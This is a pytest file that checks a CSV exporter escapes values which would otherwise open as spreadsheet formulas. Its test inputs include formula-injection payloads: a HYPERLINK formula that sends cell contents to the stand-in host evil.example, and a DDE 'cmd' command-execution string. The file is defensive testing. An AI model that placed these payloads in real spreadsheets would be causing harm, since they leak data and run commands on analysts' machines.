"""The collector's CSV: nothing a site sent opens as a formula in an analyst's spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from edge_agent.collector.summary import spreadsheet_safe, to_csv

FORMULAS = [
    pytest.param('=HYPERLINK("http://evil.example/?"&A1,"open")', id="equals"),
    pytest.param("+1+cmd|' /C calc'!A0", id="plus"),
    pytest.param("-2+3", id="minus"),
    pytest.param("@SUM(1,2)", id="at"),
    pytest.param("\t=1", id="tab"),
    pytest.param("\r=1", id="carriage-return"),
    pytest.param("x\n=1", id="line-break-then-formula"),
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_product_zone_or_category_that_would_be_a_formula_is_text(text: str) -> None:
    row = {
        "venue": text,
        "site": "shop-1",
        "period": "2027-01-15",
        "footfall": -3,
        "dwell_s": {text: {"median": 12.5}},
        "top_products": [(text, 4), ("4710199010372", 2)],
    }
    parsed = list(csv.reader(io.StringIO(to_csv({"rows": [row]}), newline="")))
    for field in (*parsed[0], *parsed[1]):
        assert field == "-3" or not field.lstrip().startswith(("=", "+", "-", "@")), field
        assert not any(ord(c) < 32 for c in field), field
    assert "-3" in parsed[1]  # a negative number is a number, left as it is
    assert parsed[1][0] == spreadsheet_safe(text)
    assert any(str(spreadsheet_safe(text)) in field for field in parsed[1][1:])  # top products


def test_plain_text_and_numbers_are_left_alone() -> None:
    assert spreadsheet_safe("dairy") == "dairy"
    assert spreadsheet_safe(-1.5) == -1.5
    assert spreadsheet_safe("a=b") == "a=b"
